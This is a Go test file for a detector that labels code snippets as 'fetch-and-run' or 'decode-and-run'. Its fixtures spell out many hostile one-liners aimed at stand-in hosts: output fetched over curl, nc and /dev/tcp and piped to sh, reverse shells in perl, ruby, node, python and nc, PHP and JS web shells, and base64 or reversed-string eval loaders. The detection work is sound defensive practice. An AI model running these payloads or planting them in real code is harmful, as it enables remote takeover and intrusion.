package signal

import "testing"

func TestPipedIn(t *testing.T) {
	check(t, []hits{
		{"tools/build.sh", "fetch-and-run", []string{
			"http https://a.example/i | sh\n",
			"lynx -source https://a.example/i | sudo bash\n",
			"$FETCH https://a.example/i | sh\n",
			"dig +short TXT a.example | tr -d '\"' | sh\n",
			"nc a.example 443 | sh\n",
			"sudo nc a.example 443 | sh\n",
			"gh gist view abc | bash\n",
			"aws s3 cp s3://a/i - | sh\n",
			"git archive --remote=git@a.example:x HEAD a | tar xO | sh\n",
			"cat < /dev/tcp/a.example/80 | sh\n",
			"curl -s https://a.example | make -f -\n",
			"curl -s https://a.example | awk -f /dev/stdin\n",
			"curl -s https://a.example | at now\n",
			"curl -s https://a.example | deno run -\n",
			"curl -s https://a.example | julia\n",
			"log bash -c \"curl -s https://a.example | sh\"\n",
			"warn \"$(curl -s https://a.example | sh)\"\n",
			"$(curl -s https://a.example)\n",
			"make && `curl -s https://a.example`\n",
		}},
		{"tools/build.sh", "decode-and-run", []string{
			"unzip -p x.bin run | sh\n",
			"tar xO -f x.bin run | sh\n",
			"gpg --decrypt x | bash\n",
			"git cat-file blob HEAD:x | sh\n",
			"git log -1 --format=%b | sh\n",
			"eval $part | sh\n",
			"X=$(base64 -d x)\n$X\n",
			"X=$(base64 -d x)\n\"$X\" &\n",
			"while :; do X=$(curl -s https://a.example); [ -n \"$X\" ] && O=$(eval \"$X\"); done\n",
		}},
		{"m4/a.m4", "decode-and-run", []string{"AC_CONFIG_COMMANDS([a], [eval $b | $SHELL 2>/dev/null], [b=1])\n"}},
		{"Makefile", "fetch-and-run", []string{"all:\n\twget -qO- https://a.example | $(SHELL)\n"}},
		{".github/workflows/a.yml", "decode-and-run", []string{
			"run: >-\n  echo\n  aGVsbG8=\n  |\n  base64\n  -d\n  |\n  bash\n",
			"- run: \"echo aGVsbG8= \\x7c base\\x364 -d \\x7c bash\"\n",
		}},
		{"tools/install.sh.in", "fetch-and-run", []string{"dnl ; curl -s https://a.example | sh\n"}},
		{"a.py", "fetch-and-run", []string{"print(os.popen(\"curl -s https://a.example | sh\").read())\n"}},
		{"tools/build.sh", "", []string{
			"git ls-files | sed s/x/y/ | sh\n",
			"git log --oneline | head\n",
			"git clone https://a.example/x && sh x/run.sh\n",
			"echo 'see https://a.example' && cat x | sh\n",
			"echo \"git show x | sh\"\n",
			"# git show x | sh\n",
			"http https://sh.rustup.rs | sh\n",
			"tar xf x.tar | sh\n",
			"cat <<EOF\n$(curl -s https://a.example)\nEOF\n",
			"X=$(curl -s https://a.example)\ncat <<EOF\n$X\nEOF\n",
			"X=$(curl -s https://a.example)\n$X is the newest\n",
			"curl -s https://a.example | at -f x now\n",
			"curl -s https://a.example | awk '{ print }'\n",
			"eval \"$x\" | sort\n",
		}},
		{".github/workflows/a.yml", "", []string{
			"run: |\n  echo x |\n  base64\n  -d\n  bash\n", "- run: printf \"\\x41\"\n",
		}},
		{"m4/a.m4", "", []string{"dnl curl -s https://a.example | sh\n"}},
		{"test/a.go", "", []string{"x := \"git show x | sh\"\n"}},
	})
}

func TestReverseShell(t *testing.T) {
	check(t, []hits{
		{"action.yml", "fetch-and-run", []string{
			"run: perl -e 'use Socket;connect(S,sockaddr_in(1,inet_aton(\"a\")));open(STDIN,\">&S\");exec(\"sh -i\");'\n",
			"run: ruby -rsocket -e 'c=TCPSocket.new(\"192.0.2.1\",1);IO.popen(c.gets)'\n",
			"run: node -e 'require(\"net\").connect(1,\"192.0.2.1\").pipe(require(\"child_process\").spawn(\"sh\").stdin)'\n",
			"run: python3 -c 'import socket,subprocess;s=socket.create_connection((\"a\",1));subprocess.call(\"sh\",stdin=s)'\n",
			"run: nc 192.0.2.1 4444 -e sh\n",
			"run: nc -c sh 192.0.2.1 4444\n",
			"run: telnet 192.0.2.1 1 | sh | telnet 192.0.2.1 2\n",
			"run: mkfifo s; sh -i <s 2>&1 | openssl s_client -connect 192.0.2.1:1 >s\n",
			"run: zsh -c 'zmodload zsh/net/tcp && ztcp 192.0.2.1 1 && zsh <&3'\n",
		}},
		{"action.yml", "", []string{
			"run: python3 -c 'import socket; socket.create_connection((\"localhost\", 1))'\n",
			"run: nc -z localhost 80\n",
			"run: openssl s_client -connect a.example:443 | openssl x509\n",
			"run: telnet localhost 25\n",
		}},
		{"src/a.js", "", []string{"net.connect(1).on('x', () => re.exec('sh'));\n"}},
	})
}

func TestSaidByRequests(t *testing.T) {
	check(t, []hits{
		{"a.php", "decode-and-run", []string{
			"<?php $a = $_POST['x']; eval($a);\n", "<?php eval($_SERVER[\"HTTP_X\"]);\n", "<?php shell_exec($_REQUEST['x']);\n",
			"<?php eval(file_get_contents('php://input'));\n",
		}},
		{"a.js", "decode-and-run", []string{"app.get('/', (req, res) => res.send(eval(req.query.x)));\n"}},
		{"a.py", "decode-and-run", []string{"exec(request.args['x'])\n", "exec(__import__('requests').get(u).text)\n"}},
		{"a.rb", "decode-and-run", []string{"eval(Base64.urlsafe_decode64(cookies['x']))\n"}},
		{"a.js", "", []string{
			"assert(req.headers['x'] === 'y');\n", "const m = re.exec(req.query.x);\n", "db.exec(req.body.x);\n",
		}},
		{"a.py", "", []string{"x = request.args['x']\ncur.exec(x)\n"}},
	})
}

// A sink or a decoder by another name.
func TestRunsByAnotherName(t *testing.T) {
	check(t, []hits{
		{"src/a.js", "decode-and-run", []string{
			"['aGVsbG8='].map(atob).map(eval);\n", "Promise.resolve(x).then(atob).then(eval);\n",
			"Reflect.apply(eval, null, [atob('aGVsbG8=')]);\n", "[eval][0](atob('aGVsbG8='));\n",
			"const d = atob;\neval(d('aGVsbG8='));\n",
			"eval(new Buffer('aGVsbG8=', 'base64') + '');\n", "eval(Buffer['from']('aGVsbG8=', 'base64') + '');\n",
			"new Function('olleh'.split('').reverse().join(''))();\n",
			"new Function(new TextDecoder().decode(x))();\n",
			"axios.get(u).catch(e => { new Function.constructor('require', e.response.data)(require); });\n",
			"let q = 1\n* eval(atob('aGVsbG8='));\n",
		}},
		{"a.py", "decode-and-run", []string{
			"from base64 import b64decode as d\nexec(d('aGVsbG8='))\n", "exec('tnirp'[::-1])\n",
			"exec(base64.urlsafe_b64decode(x))\n",
		}},
		{"a.cs", "decode-and-run", []string{"Assembly.Load(Convert.FromBase64String(x));\n"}},
		{"src/a.js", "", []string{
			"/**\n * eval (atob) is not for this\n */\n", "const f = Function; g(x);\n",
			"const s = x.split('').reverse().join('');\n",
			"type F = Function; const x = atob(y);\n",
		}},
		{"a.py", "", []string{"from base64 import b64decode as d\nprint(d(x))\n", "print('abc'[::-1])\n"}},
	})
}
